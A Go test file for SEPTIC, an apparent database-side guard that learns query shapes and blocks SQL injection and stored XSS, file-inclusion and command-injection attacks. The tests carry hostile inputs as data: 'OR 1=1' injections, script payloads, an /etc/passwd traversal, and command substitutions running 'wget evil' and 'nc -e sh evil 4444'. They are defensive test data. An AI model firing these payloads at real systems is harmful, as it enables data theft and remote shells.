package core

import (
	"errors"
	"fmt"
	"path/filepath"
	"sync"
	"testing"

	"github.com/septic-db/septic/internal/engine"
)

// newProtectedDB wires a fresh engine to a fresh SEPTIC in the given
// config and creates the tickets schema of the paper's running example.
func newProtectedDB(t *testing.T, cfg Config) (*engine.DB, *Septic) {
	t.Helper()
	sep := New(cfg)
	db := engine.New(engine.WithQueryHook(sep))
	setup := []string{
		"CREATE TABLE tickets (id INT PRIMARY KEY AUTO_INCREMENT, reservID TEXT, creditCard INT)",
		"CREATE TABLE users (id INT PRIMARY KEY AUTO_INCREMENT, name TEXT, passwd TEXT)",
		"CREATE TABLE comments (id INT PRIMARY KEY AUTO_INCREMENT, author TEXT, body TEXT)",
		"INSERT INTO tickets (reservID, creditCard) VALUES ('ID34FG', 1234), ('ZZ91AB', 5678)",
		"INSERT INTO users (name, passwd) VALUES ('admin', 's3cret')",
	}
	// Setup runs while SEPTIC trains, so the DDL/seed queries simply
	// gain models.
	for _, q := range setup {
		if _, err := db.Exec(q); err != nil {
			t.Fatalf("setup %q: %v", q, err)
		}
	}
	return db, sep
}

// train teaches SEPTIC the benign shape of the demo queries.
func train(t *testing.T, db *engine.DB, sep *Septic, queries []string) {
	t.Helper()
	prev := sep.Config()
	sep.SetConfig(Config{Mode: ModeTraining})
	for _, q := range queries {
		if _, err := db.Exec(q); err != nil {
			t.Fatalf("training %q: %v", q, err)
		}
	}
	sep.SetConfig(prev)
}

const ticketsLookup = "SELECT * FROM tickets WHERE reservID = '%s' AND creditCard = %s"

func TestTrainingLearnsOneModelPerQuery(t *testing.T) {
	cfg := Config{Mode: ModeTraining}
	db, sep := newProtectedDB(t, cfg)
	before := sep.Store().Len()
	// Two executions of the same query shape, different data.
	for _, args := range [][2]string{{"ID34FG", "1234"}, {"ZZ91AB", "5678"}} {
		q := fmt.Sprintf(ticketsLookup, args[0], args[1])
		if _, err := db.Exec(q); err != nil {
			t.Fatalf("Exec: %v", err)
		}
	}
	if got := sep.Store().Len(); got != before+1 {
		t.Errorf("store grew by %d models, want 1 (same shape learned once)", got-before)
	}
	if c := sep.Stats(); c.ModelsLearned == 0 {
		t.Error("no model-learned events logged")
	}
}

func TestPreventionBlocksSecondOrderAttack(t *testing.T) {
	// The full §II-D1 scenario: (1) the attacker stores
	// "ID34FGʼ-- " (Unicode prime, untouched by escaping); (2) the app
	// reads it back and concatenates it into the tickets query; (3) the
	// DBMS decodes the prime into a live quote. SEPTIC must block step 3.
	db, sep := newProtectedDB(t, Config{Mode: ModePrevention, DetectSQLI: true, IncrementalLearning: false})
	train(t, db, sep, []string{fmt.Sprintf(ticketsLookup, "ID34FG", "1234")})

	stored := "ID34FGʼ-- " // what the database now holds
	attacked := fmt.Sprintf(ticketsLookup, stored, "0")
	_, err := db.Exec(attacked)
	if !errors.Is(err, engine.ErrQueryBlocked) {
		t.Fatalf("err = %v, want ErrQueryBlocked", err)
	}
	attacks := sep.Logger().Attacks()
	if len(attacks) != 1 {
		t.Fatalf("attacks logged = %d, want 1", len(attacks))
	}
	ev := attacks[0]
	if ev.Kind != EventAttackBlocked || ev.Attack != AttackSQLI {
		t.Errorf("event = %+v", ev)
	}
	if ev.Step.String() != "structural" {
		t.Errorf("step = %s, want structural (Fig. 3: node count differs)", ev.Step)
	}
}

func TestPreventionBlocksMimicryAttack(t *testing.T) {
	db, sep := newProtectedDB(t, Config{Mode: ModePrevention, DetectSQLI: true, IncrementalLearning: false})
	train(t, db, sep, []string{fmt.Sprintf(ticketsLookup, "ID34FG", "1234")})

	// §II-D1 second example: "ID34FG' AND 1=1-- " keeps the node count.
	attacked := "SELECT * FROM tickets WHERE reservID = 'ID34FG' AND 1=1-- ' AND creditCard = 0"
	_, err := db.Exec(attacked)
	if !errors.Is(err, engine.ErrQueryBlocked) {
		t.Fatalf("err = %v, want ErrQueryBlocked", err)
	}
	ev := sep.Logger().Attacks()[0]
	if ev.Step.String() != "syntactical" {
		t.Errorf("step = %s, want syntactical (Fig. 4: same count, node differs)", ev.Step)
	}
}

func TestPreventionAllowsBenignVariants(t *testing.T) {
	db, sep := newProtectedDB(t, Config{Mode: ModePrevention, DetectSQLI: true, DetectStored: true, IncrementalLearning: false})
	train(t, db, sep, []string{fmt.Sprintf(ticketsLookup, "ID34FG", "1234")})

	// No false positives: same shape, fresh data, including data with
	// SQL-looking content safely inside the literal.
	benign := []string{
		fmt.Sprintf(ticketsLookup, "ZZ91AB", "5678"),
		fmt.Sprintf(ticketsLookup, "nothing here", "0"),
		fmt.Sprintf(ticketsLookup, `O\'Brien`, "42"), // properly escaped quote
	}
	for _, q := range benign {
		if _, err := db.Exec(q); err != nil {
			t.Errorf("benign query blocked: %q: %v", q, err)
		}
	}
	if got := sep.Stats().AttacksFound; got != 0 {
		t.Errorf("false positives: %d attacks found", got)
	}
}

func TestDetectionModeLogsButExecutes(t *testing.T) {
	db, sep := newProtectedDB(t, Config{Mode: ModeDetection, DetectSQLI: true, IncrementalLearning: false})
	train(t, db, sep, []string{"SELECT passwd FROM users WHERE name = 'admin'"})

	res, err := db.Exec("SELECT passwd FROM users WHERE name = 'admin' OR 1=1-- '")
	if err != nil {
		t.Fatalf("detection mode must execute: %v", err)
	}
	if len(res.Rows) == 0 {
		t.Error("attack query should have returned rows in detection mode")
	}
	stats := sep.Stats()
	if stats.AttacksFound != 1 || stats.AttacksBlocked != 0 {
		t.Errorf("stats = %+v, want found=1 blocked=0", stats)
	}
	if ev := sep.Logger().Attacks()[0]; ev.Kind != EventAttackDetected {
		t.Errorf("event kind = %s, want attack-detected", ev.Kind)
	}
}

// TestTableIModeMatrix verifies the action matrix of Table I: which
// modes train, log, detect, drop and execute.
func TestTableIModeMatrix(t *testing.T) {
	attackQuery := "SELECT passwd FROM users WHERE name = 'admin' OR 1=1-- '"
	benignQuery := "SELECT passwd FROM users WHERE name = 'admin'"

	cases := []struct {
		name          string
		mode          Mode
		wantExecAtk   bool // attack query executes
		wantBlockStat bool // blocked counter increments
		wantDetect    bool // attack event logged
	}{
		{"training", ModeTraining, true, false, false},
		{"detection", ModeDetection, true, false, true},
		{"prevention", ModePrevention, false, true, true},
	}
	for _, tt := range cases {
		t.Run(tt.name, func(t *testing.T) {
			db, sep := newProtectedDB(t, Config{Mode: ModePrevention, DetectSQLI: true, IncrementalLearning: false})
			train(t, db, sep, []string{benignQuery})
			sep.SetConfig(Config{Mode: tt.mode, DetectSQLI: true, DetectStored: true, IncrementalLearning: false})

			_, err := db.Exec(attackQuery)
			gotExec := err == nil
			if gotExec != tt.wantExecAtk {
				t.Errorf("attack executed = %t, want %t (err=%v)", gotExec, tt.wantExecAtk, err)
			}
			stats := sep.Stats()
			if (stats.AttacksBlocked > 0) != tt.wantBlockStat {
				t.Errorf("blocked = %d, wantBlock = %t", stats.AttacksBlocked, tt.wantBlockStat)
			}
			if (len(sep.Logger().Attacks()) > 0) != tt.wantDetect {
				t.Errorf("attack events = %d, wantDetect = %t", len(sep.Logger().Attacks()), tt.wantDetect)
			}
			// Benign queries execute in every mode.
			if _, err := db.Exec(benignQuery); err != nil {
				t.Errorf("benign blocked in %s: %v", tt.mode, err)
			}
		})
	}
}

func TestIncrementalLearningInNormalMode(t *testing.T) {
	db, sep := newProtectedDB(t, Config{Mode: ModePrevention, DetectSQLI: true, IncrementalLearning: true})
	before := sep.Store().Len()
	c0 := sep.Stats()
	// Never-trained query: learned on the fly and executed.
	if _, err := db.Exec("SELECT name FROM users WHERE id = 1"); err != nil {
		t.Fatalf("unknown query should execute under incremental learning: %v", err)
	}
	if sep.Store().Len() != before+1 {
		t.Error("model not learned incrementally")
	}
	if c := sep.Stats(); c.NewQueries != c0.NewQueries+1 {
		t.Errorf("new-query events = %d, want %d", c.NewQueries, c0.NewQueries+1)
	}
	// Second time: model exists, query is checked.
	if _, err := db.Exec("SELECT name FROM users WHERE id = 2"); err != nil {
		t.Fatalf("known-shape query: %v", err)
	}
	if c := sep.Stats(); c.QueriesChecked == 0 {
		t.Error("second execution should be checked against the learned model")
	}
}

func TestIncrementalLearningDisabled(t *testing.T) {
	db, sep := newProtectedDB(t, Config{Mode: ModePrevention, DetectSQLI: true, IncrementalLearning: false})
	before := sep.Store().Len()
	if _, err := db.Exec("SELECT name FROM users WHERE id = 1"); err != nil {
		t.Fatalf("unknown query still executes (paper: admin decides later): %v", err)
	}
	if sep.Store().Len() != before {
		t.Error("model must not be learned when incremental learning is off")
	}
}

// TestStoredInjectionUnderAnUnknownIdentifier: the plugins judge what a
// write stores whether or not the guard has a model for it. A stored XSS
// through an entry point never trained is blocked at its first call and
// every later one — as a text, a respelling of its shape and a bound
// value — with incremental learning on and off, and nothing is stored or
// learned. Its benign spelling then runs, and the payloads are still
// blocked with the shape's verdict memoized.
func TestStoredInjectionUnderAnUnknownIdentifier(t *testing.T) {
	const xss = "<script>alert(1)</script>"
	for _, learning := range []bool{false, true} {
		db, sep := newProtectedDB(t, Config{Mode: ModePrevention, DetectSQLI: true, DetectStored: true, IncrementalLearning: learning})
		models := sep.Store().ModelCount()
		attempt := func(round int) {
			t.Helper()
			for _, w := range []struct {
				q    string
				args []engine.Value
			}{
				{"INSERT INTO comments (body) VALUES ('" + xss + "')", nil},
				{"INSERT INTO comments (body) VALUES ('<script>alert(2)</script>')", nil},
				{`INSERT INTO comments (body) VALUES ('<a href="jav&#x61;script:alert(1)">x</a>')`, nil},
				{"INSERT INTO comments (body) VALUES (?)", []engine.Value{engine.Str(xss)}},
				{"UPDATE comments SET body = '" + xss + "' WHERE id = 1", nil},
			} {
				if _, err := db.ExecArgs(w.q, w.args...); !errors.Is(err, engine.ErrQueryBlocked) {
					t.Errorf("learning %t, round %d: %s %v: err = %v, want blocked", learning, round, w.q, w.args, err)
				}
			}
		}
		for round := 0; round < 3; round++ {
			attempt(round)
		}
		if got := sep.Store().ModelCount(); got != models {
			t.Errorf("learning %t: %d models after the blocked writes, want %d", learning, got, models)
		}
		for range 2 {
			if _, err := db.Exec("INSERT INTO comments (body) VALUES ('hello')"); err != nil {
				t.Fatalf("learning %t: the benign spelling: %v", learning, err)
			}
		}
		hits := sep.CacheStats().Hits
		attempt(3)
		if sep.CacheStats().Hits == hits {
			t.Errorf("learning %t: no payload was served its shape's verdict", learning)
		}
		res, err := db.Exec("SELECT COUNT(*) FROM comments WHERE body LIKE '%script%'")
		if err != nil || res.Rows[0][0].I != 0 {
			t.Errorf("learning %t: stored payloads: %v (err %v), want 0", learning, res, err)
		}
	}
}

func TestStoredXSSBlocked(t *testing.T) {
	db, sep := newProtectedDB(t, Config{Mode: ModePrevention, DetectStored: true, DetectSQLI: true, IncrementalLearning: false})
	train(t, db, sep, []string{"INSERT INTO comments (author, body) VALUES ('seed', 'text')"})

	// §II-D2: the paper's stored XSS example.
	q := `INSERT INTO comments (author, body) VALUES ('mal', '<script> alert(\'Hello!\');</script>')`
	_, err := db.Exec(q)
	if !errors.Is(err, engine.ErrQueryBlocked) {
		t.Fatalf("err = %v, want ErrQueryBlocked", err)
	}
	ev := sep.Logger().Attacks()[0]
	if ev.Attack != AttackStored || ev.Plugin != "stored-xss" {
		t.Errorf("event = %+v", ev)
	}
}

func TestStoredInjectionVariants(t *testing.T) {
	mk := func() (*engine.DB, *Septic) {
		db, sep := newProtectedDB(t, Config{Mode: ModePrevention, DetectStored: true, DetectSQLI: true, IncrementalLearning: false})
		train(t, db, sep, []string{
			"INSERT INTO comments (author, body) VALUES ('seed', 'text')",
			"UPDATE comments SET body = 'x' WHERE id = 1",
		})
		return db, sep
	}
	attacks := []struct {
		name   string
		query  string
		plugin string
	}{
		{"xss img onerror", `INSERT INTO comments (author, body) VALUES ('m', '<img src=x onerror=alert(1)>')`, "stored-xss"},
		{"xss via update", `UPDATE comments SET body = '<iframe src="http://evil"></iframe>' WHERE id = 1`, "stored-xss"},
		{"rfi", `INSERT INTO comments (author, body) VALUES ('m', 'http://evil.example/shell.php?cmd=id')`, "file-inclusion"},
		{"php wrapper", `INSERT INTO comments (author, body) VALUES ('m', 'php://filter/convert.base64-encode/resource=index.php')`, "file-inclusion"},
		{"lfi traversal", `INSERT INTO comments (author, body) VALUES ('m', '../../../../etc/passwd')`, "file-inclusion"},
		{"lfi encoded", `INSERT INTO comments (author, body) VALUES ('m', '%2e%2e%2f%2e%2e%2fetc%2fpasswd')`, "file-inclusion"},
		{"osci chain", `INSERT INTO comments (author, body) VALUES ('m', 'x; cat /etc/passwd')`, "file-inclusion"},
		{"rce substitution", `INSERT INTO comments (author, body) VALUES ('m', 'a$(wget evil/x)b')`, "command-injection"},
		{"rce backtick", "INSERT INTO comments (author, body) VALUES ('m', 'a`nc -e sh evil 4444`')", "command-injection"},
	}
	for _, tt := range attacks {
		t.Run(tt.name, func(t *testing.T) {
			db, sep := mk()
			_, err := db.Exec(tt.query)
			if !errors.Is(err, engine.ErrQueryBlocked) {
				t.Fatalf("err = %v, want ErrQueryBlocked", err)
			}
			ev := sep.Logger().Attacks()[0]
			if ev.Attack != AttackStored {
				t.Errorf("attack = %s, want stored-injection", ev.Attack)
			}
			if ev.Plugin != tt.plugin {
				t.Logf("plugin = %s (expected %s) — acceptable if another plugin fired first: %s",
					ev.Plugin, tt.plugin, ev.Detail)
			}
		})
	}
}

func TestStoredInjectionBenignContent(t *testing.T) {
	db, sep := newProtectedDB(t, Config{Mode: ModePrevention, DetectStored: true, DetectSQLI: true, IncrementalLearning: false})
	train(t, db, sep, []string{"INSERT INTO comments (author, body) VALUES ('seed', 'text')"})

	benign := []string{
		"plain text",
		"math: a < b and c > d",
		"Tom & Jerry; best duo",
		"see https://example.com for docs",
		"price is $5 (on sale)",
		"file is in /home/user/docs",
		"2 << 4 equals 32",
		"use <b>bold</b> for emphasis",
	}
	for _, body := range benign {
		q := fmt.Sprintf("INSERT INTO comments (author, body) VALUES ('u', '%s')", body)
		if _, err := db.Exec(q); err != nil {
			t.Errorf("benign stored content blocked: %q: %v", body, err)
		}
	}
	if got := sep.Stats().AttacksFound; got != 0 {
		t.Errorf("false positives on benign content: %d", got)
	}
}

// TestStoredDetectionOnlyChecksInsertUpdate: SELECTs carrying markup in a
// literal are not stored-injection (paper: plugins run for INSERT and
// UPDATE).
func TestStoredDetectionOnlyChecksInsertUpdate(t *testing.T) {
	db, sep := newProtectedDB(t, Config{Mode: ModePrevention, DetectStored: true, DetectSQLI: true, IncrementalLearning: false})
	train(t, db, sep, []string{"SELECT id FROM comments WHERE body = 'x'"})
	if _, err := db.Exec("SELECT id FROM comments WHERE body = '<script>x</script>'"); err != nil {
		t.Errorf("SELECT must not trigger stored-injection: %v", err)
	}
	_ = sep
}

func TestConfigTogglesDetections(t *testing.T) {
	// NN configuration: both detections off — attacks pass (that is the
	// baseline overhead configuration, not a protection mode).
	db, sep := newProtectedDB(t, Config{Mode: ModePrevention, IncrementalLearning: false})
	train(t, db, sep, []string{fmt.Sprintf(ticketsLookup, "ID34FG", "1234")})
	attacked := "SELECT * FROM tickets WHERE reservID = 'ID34FG' AND 1=1-- '"
	if _, err := db.Exec(attacked); err != nil {
		t.Errorf("NN config must not block: %v", err)
	}
	// Turn SQLI detection on (YN): now blocked.
	sep.SetConfig(Config{Mode: ModePrevention, DetectSQLI: true, IncrementalLearning: false})
	if _, err := db.Exec(attacked); !errors.Is(err, engine.ErrQueryBlocked) {
		t.Errorf("YN config must block: %v", err)
	}
}

func TestStorePersistenceAcrossRestart(t *testing.T) {
	// Demo phase C/D: models persist, a restarted server reloads them.
	path := filepath.Join(t.TempDir(), "models.json")

	db, sep := newProtectedDB(t, Config{Mode: ModeTraining})
	train(t, db, sep, []string{fmt.Sprintf(ticketsLookup, "ID34FG", "1234")})
	if err := sep.Store().Save(path); err != nil {
		t.Fatalf("Save: %v", err)
	}

	// "Restart": fresh SEPTIC in prevention mode, loading the models.
	sep2 := New(Config{Mode: ModePrevention, DetectSQLI: true, IncrementalLearning: false})
	if err := sep2.Store().Load(path); err != nil {
		t.Fatalf("Load: %v", err)
	}
	if sep2.Store().Len() != sep.Store().Len() {
		t.Fatalf("loaded %d models, want %d", sep2.Store().Len(), sep.Store().Len())
	}
	db2 := engine.New(engine.WithQueryHook(nil))
	if _, err := db2.Exec("CREATE TABLE tickets (id INT, reservID TEXT, creditCard INT)"); err != nil {
		t.Fatal(err)
	}
	db2.SetHook(sep2)

	if _, err := db2.Exec(fmt.Sprintf(ticketsLookup, "OK999X", "1111")); err != nil {
		t.Errorf("benign query after restart: %v", err)
	}
	_, err := db2.Exec("SELECT * FROM tickets WHERE reservID = 'ID34FG'-- ' AND creditCard = 0")
	if !errors.Is(err, engine.ErrQueryBlocked) {
		t.Errorf("attack after restart: err = %v, want blocked", err)
	}
}

func TestStoreLoadRejectsCorruption(t *testing.T) {
	path := filepath.Join(t.TempDir(), "models.json")
	db, sep := newProtectedDB(t, Config{Mode: ModeTraining})
	train(t, db, sep, []string{"SELECT id FROM users WHERE name = 'x'"})
	if err := sep.Store().Save(path); err != nil {
		t.Fatal(err)
	}
	// Corrupt a fingerprint by rewriting the file with a bogus sum.
	data := mustRead(t, path)
	tampered := replaceOnce(data, `"FIELD_ITEM"`, `"FIELD_ITEM"`) // no-op sanity
	_ = tampered
	corrupted := replaceOnce(data, `"data": "name"`, `"data": "evil"`)
	if string(corrupted) == string(data) {
		t.Skip("layout changed; corruption target not found")
	}
	mustWrite(t, path, corrupted)
	if err := NewStore().Load(path); err == nil {
		t.Error("Load must reject fingerprint mismatch")
	}
}

func TestExternalIdentifier(t *testing.T) {
	db, sep := newProtectedDB(t, Config{Mode: ModeTraining})
	// Same shape, different external IDs: two models.
	before := sep.Store().Len()
	if _, err := db.Exec("/* app:page1 */ SELECT name FROM users WHERE id = 1"); err != nil {
		t.Fatal(err)
	}
	if _, err := db.Exec("/* app:page2 */ SELECT name FROM users WHERE id = 1"); err != nil {
		t.Fatal(err)
	}
	if got := sep.Store().Len() - before; got != 2 {
		t.Errorf("distinct external IDs produced %d models, want 2", got)
	}
	ids := sep.Store().IDs()
	var withExt int
	for _, id := range ids {
		if len(id) > 4 && (id[:4] == "app:") {
			withExt++
		}
	}
	if withExt != 2 {
		t.Errorf("external identifiers missing from IDs: %v", ids)
	}
}

func TestConcurrentHookUse(t *testing.T) {
	db, sep := newProtectedDB(t, Config{Mode: ModePrevention, DetectSQLI: true, DetectStored: true, IncrementalLearning: false})
	train(t, db, sep, []string{fmt.Sprintf(ticketsLookup, "ID34FG", "1234")})
	var wg sync.WaitGroup
	for i := 0; i < 8; i++ {
		wg.Add(1)
		go func(n int) {
			defer wg.Done()
			for j := 0; j < 25; j++ {
				if n%2 == 0 {
					_, _ = db.Exec(fmt.Sprintf(ticketsLookup, "ZZ91AB", "42"))
				} else {
					_, _ = db.Exec("SELECT * FROM tickets WHERE reservID = 'x' OR 1=1-- ' AND creditCard = 0")
				}
			}
		}(i)
	}
	wg.Wait()
	stats := sep.Stats()
	if stats.AttacksBlocked != 100 {
		t.Errorf("blocked = %d, want 100", stats.AttacksBlocked)
	}
	if stats.QueriesSeen < 200 {
		t.Errorf("seen = %d, want >= 200", stats.QueriesSeen)
	}
}

// TestConcurrentModeFlips: sessions keep executing while an operator
// flips modes; the hook must stay consistent (race-detector checked) and
// every prevention-window attack must be blocked.
func TestConcurrentModeFlips(t *testing.T) {
	db, sep := newProtectedDB(t, Config{Mode: ModePrevention, DetectSQLI: true, IncrementalLearning: false})
	train(t, db, sep, []string{fmt.Sprintf(ticketsLookup, "ID34FG", "1234")})

	done := make(chan struct{})
	go func() {
		defer close(done)
		for i := 0; i < 50; i++ {
			sep.SetMode(ModeDetection)
			sep.SetMode(ModePrevention)
		}
	}()
	var wg sync.WaitGroup
	for i := 0; i < 4; i++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for j := 0; j < 50; j++ {
				// Benign traffic must never fail regardless of mode.
				if _, err := db.Exec(fmt.Sprintf(ticketsLookup, "ZZ91AB", "7")); err != nil {
					t.Errorf("benign query failed during mode flip: %v", err)
					return
				}
			}
		}()
	}
	wg.Wait()
	<-done
	// With flipping done and prevention restored, the attack is blocked.
	if _, err := db.Exec("SELECT * FROM tickets WHERE reservID = 'x' OR 1=1-- '"); !errors.Is(err, engine.ErrQueryBlocked) {
		t.Errorf("attack after flips: %v", err)
	}
}

func TestModeString(t *testing.T) {
	for m, want := range map[Mode]string{
		ModeTraining:   "training",
		ModeDetection:  "detection",
		ModePrevention: "prevention",
	} {
		if m.String() != want {
			t.Errorf("%d.String() = %q, want %q", m, m.String(), want)
		}
	}
}
